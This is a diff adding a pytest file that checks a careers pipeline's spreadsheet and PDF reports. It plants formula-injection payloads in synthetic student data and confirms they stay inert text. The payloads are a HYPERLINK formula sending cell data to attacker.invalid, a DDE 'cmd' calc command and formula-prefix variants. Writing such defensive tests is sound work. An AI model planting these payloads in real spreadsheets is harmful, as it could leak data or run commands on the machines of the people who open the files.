@@ -1,0 +1,181 @@
+"""Deliveries people can use: career-lead packs (XLSX and a one-page PDF) that read and print,
+with every roster student and nothing executable, written by a passing run."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import openpyxl
+import pypdf
+import pytest
+from conftest import scratch_warehouse
+
+from pathways import pipeline
+from pathways.synthetic import generate
+
+# Extract text a spreadsheet program would run: formulas, DDE, and the prefixes that smuggle one.
+INJECTIONS = [
+    '=HYPERLINK("http://attacker.invalid/?"&C2,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+SCHOOL_NAME = '=HYPERLINK("http://attacker.invalid","Click")'
+MULTILINE_PLAN = "Book a college taster day\nTalk to family about the options"
+
+
+def rewrite(path: Path, change) -> None:
+    """Rewrite a CSV extract row by row: change(index, row) edits the row (None drops it)."""
+    with open(path, newline="", encoding="utf-8-sig") as handle:
+        rows = list(csv.DictReader(handle))
+    kept = [row for index, row in enumerate(rows) if change(index, row) is not False]
+    with open(path, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(kept)
+
+
+@pytest.fixture(scope="module")
+def delivered(tmp_path_factory, monkeypatch_module):
+    root = tmp_path_factory.mktemp("deliveries")
+    landing, outbox = root / "landing", root / "outbox"
+    generate(landing, schools=3, cycles=2)
+    cohort = landing / "cohort=2024"
+    first_school = sorted(cohort.glob("cycle=2/roster_*.csv"))[0]
+    urn = first_school.stem.split("_")[1]
+
+    def hostile_school(index, row):
+        if row["urn"] == urn:
+            row["school_name"] = SCHOOL_NAME
+
+    def hostile_names(index, row):
+        if index < len(INJECTIONS):
+            row["surname"] = INJECTIONS[index]
+            row["forename"] = INJECTIONS[-1 - index]
+
+    rewrite(cohort / "schools.csv", hostile_school)
+    rewrite(first_school, hostile_names)
+    interviews = sorted(cohort.glob("cycle=2/interviews_*.csv"))[0]
+    missed = {}
+
+    def hostile_plans(index, row):
+        if row["school_urn"] == urn and "upn" not in missed:
+            missed["upn"] = row["upn"]
+            return False  # this student misses the cycle's interview
+        row["action_plan"] = INJECTIONS[index % len(INJECTIONS)] if index < 10 else MULTILINE_PLAN
+
+    rewrite(interviews, hostile_plans)
+    monkeypatch_module.setenv("PATHWAYS_OUTBOX", str(outbox))
+    with scratch_warehouse() as url:
+        result = pipeline.run(landing, url=url)
+        assert result.ok, result.report()
+        yield {"url": url, "outbox": outbox, "urn": urn, "result": result}
+
+
+@pytest.fixture(scope="module")
+def monkeypatch_module():
+    with pytest.MonkeyPatch.context() as patch:
+        yield patch
+
+
+def packs(delivered) -> list[Path]:
+    folder = delivered["outbox"] / "career_lead_packs" / "cohort=2024" / "cycle=2"
+    return sorted(folder.glob("*.xlsx"))
+
+
+def test_a_passing_run_delivers_the_latest_cycle(delivered):
+    assert len(packs(delivered)) == 3
+    assert len(list(packs(delivered)[0].parent.glob("*.pdf"))) == 3
+    assert len(list((delivered["outbox"] / "ees").glob("pathways_*.csv"))) == 10
+    assert any(line.startswith("delivered: 3 career-lead packs") for line in
+               delivered["result"].deliveries)  # fmt: skip
+
+
+def test_no_text_from_an_extract_becomes_a_formula(delivered):
+    texts = set()
+    for path in packs(delivered):
+        book = openpyxl.load_workbook(path)  # not read-only: data_type tells formulas apart
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
+                    if isinstance(cell.value, str):
+                        texts.add(cell.value)
+    # The hostile values are there, as text (ingestion trims the tab and carriage return).
+    assert {injection.strip() for injection in INJECTIONS} <= texts
+    assert any(SCHOOL_NAME in text for text in texts)
+
+
+def test_negative_control_openpyxl_would_have_written_a_formula(tmp_path):
+    """Without the string cell type, openpyxl stores '=...' as a formula: what the test catches."""
+    book = openpyxl.Workbook()
+    book.active["A1"] = INJECTIONS[0]
+    book.save(tmp_path / "plain.xlsx")
+    assert openpyxl.load_workbook(tmp_path / "plain.xlsx").active["A1"].data_type == "f"
+
+
+def test_every_roster_student_is_listed_and_the_missed_one_needs_attention(delivered):
+    path = next(path for path in packs(delivered) if path.name.startswith(delivered["urn"]))
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["Summary", "Needs attention", "Students", "Knowledge scores"]
+    students = list(book["Students"].iter_rows(min_row=2, values_only=True))
+    landing = delivered["outbox"].parent / "landing" / "cohort=2024" / "cycle=2"
+    with open(landing / f"roster_{delivered['urn']}.csv", newline="", encoding="utf-8") as handle:
+        roster = len(list(csv.DictReader(handle)))
+    assert len(students) == roster
+    missed = [row for row in students if row[2] == "Not interviewed this cycle"]
+    assert len(missed) == 1
+    attention = {(row[0], row[1]): row[2] for row in
+                 book["Needs attention"].iter_rows(min_row=2, values_only=True)}  # fmt: skip
+    assert attention[missed[0][:2]] == "not interviewed this cycle"
+    summary = [row for row in book["Summary"].iter_rows(values_only=True) if row[0]]
+    assert f"interviewed: {roster - 1}; not interviewed: 1." in summary[2][0]
+
+
+def test_codes_are_shown_as_labels(delivered):
+    book = openpyxl.load_workbook(packs(delivered)[0])
+    header, *rows = list(book["Students"].iter_rows(values_only=True))
+    column = {name: index for index, name in enumerate(header)}
+    allowed = {
+        "Gender": {"Female", "Male", "Not known / not stated"},
+        "SEN": {"No SEN", "SEN support", "Education, health and care plan"},
+        "NEET risk": {"Low", "Medium", "High", None},
+        "Predicted destination": {"Education, employment or training", "Unknown", None,
+                                  "Not in education, employment or training"},
+    }  # fmt: skip
+    for name, labels in allowed.items():
+        assert {row[column[name]] for row in rows} <= labels, name
+
+
+def test_packs_read_and_print_well(delivered):
+    book = openpyxl.load_workbook(packs(delivered)[0])
+    for sheet in book.worksheets:
+        setup = sheet.page_setup
+        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    for name in ("Needs attention", "Students", "Knowledge scores"):
+        sheet = book[name]
+        assert sheet.print_title_rows == "$1:$1" and sheet.print_title_cols == "$A:$B"
+        assert sheet.freeze_panes == "C2" and sheet.auto_filter.ref == sheet.dimensions
+        for cell in sheet[1]:  # no header word cut by its column
+            width = sheet.column_dimensions[cell.column_letter].width
+            assert width >= max(map(len, str(cell.value).split())), (name, cell.value, width)
+    plans = [cell for cell in book["Students"]["M"] if cell.value == MULTILINE_PLAN]
+    assert plans and all(cell.alignment.wrap_text for cell in plans)
+    dates = [cell for cell in book["Students"]["H"][1:] if cell.value is not None]
+    assert dates and {cell.number_format for cell in dates} == {"dd/mm/yyyy"}
+
+
+def test_the_pdf_summary_is_one_page_naming_the_school(delivered):
+    pdfs = sorted(packs(delivered)[0].parent.glob("*.pdf"))
+    for pdf in pdfs:
+        reader = pypdf.PdfReader(pdf)
+        assert len(reader.pages) == 1
+        text = reader.pages[0].extract_text()
+        assert "All programme schools" in text and "(LEP area)" in text
+        urn = pdf.name.split("_")[0]
+        assert f"URN {urn}" in text
